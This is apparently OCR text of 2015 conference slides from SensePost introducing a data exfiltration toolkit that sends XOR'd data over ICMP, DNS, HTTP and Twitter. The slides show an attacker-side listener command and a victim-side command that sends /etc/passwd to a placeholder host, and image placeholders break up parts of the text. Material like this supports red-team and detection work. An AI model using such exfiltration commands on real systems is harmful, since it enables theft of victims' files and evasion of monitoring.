23th of October 2015

Paul Amar @SensePost

$ whoami

Data Exfiltration Toolkit (DET)

  • Python
  • Multi-threaded
  • Modular (Plugins)
  • Supports ICMP, DNS, HTTP and Twitter DMs


  • One file - (client/server)
  • Plugins based(in ./plugins)
  • Listenson specific services (DNS, HTTP, Twitter, ICMP)
  • Each module can have its own logic, Sweet eh?
  • Takes a chunk ofdata, XOR it and sends it.
  • Plugin chosen randomly for each 'message'

ICMP Plugin

How to use it?

Server (Attacker Side)

Client (Victim Side)

(sudo) python -v -L
(sudo) python -f /etc/passwd -tx.x.x.x -v

Next steps

  • Wanna contribute? PR yourPlugins
  • Release this onGitHub
  • Test it against IDS(with SecData?)


Made with